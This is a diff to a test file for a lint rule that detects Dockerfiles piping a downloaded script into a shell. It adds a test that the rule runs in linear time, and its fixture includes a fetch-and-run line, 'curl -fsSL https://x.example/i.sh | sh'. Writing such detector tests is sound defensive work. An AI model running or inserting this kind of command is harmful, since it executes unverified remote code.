@@ -1,4 +1,5 @@
-import { testRule } from '../../testing/rule-tester.js';
+import { expect, it } from 'vitest';
+import { runRule, testRule } from '../../testing/rule-tester.js';
 import rule from './dockerfile-remote-script-piped-to-shell.js';
 
 testRule(rule, {
@@ -49,4 +50,15 @@ testRule(rule, {
       ],
     },
   ],
+});
+
+it('takes time linear in a pipeline of many downloads (it was quadratic: minutes for 300 KB)', () => {
+  const content = `FROM ubuntu:24.04\nRUN ${Array(20_000).fill('curl x').join(' | ')}\nRUN curl -fsSL https://x.example/i.sh | sh\n`;
+  const started = Date.now();
+  const { findings, errors } = runRule(rule, { path: 'Dockerfile', content });
+  expect(errors).toEqual([]);
+  expect(findings.map((f) => [f.location.startLine, f.location.startColumn, f.location.endLine, f.location.endColumn, f.message])).toEqual([
+    [3, 5, 3, 43, 'Output of curl is piped into sh and run unverified'],
+  ]);
+  expect(Date.now() - started).toBeLessThan(5_000);
 });
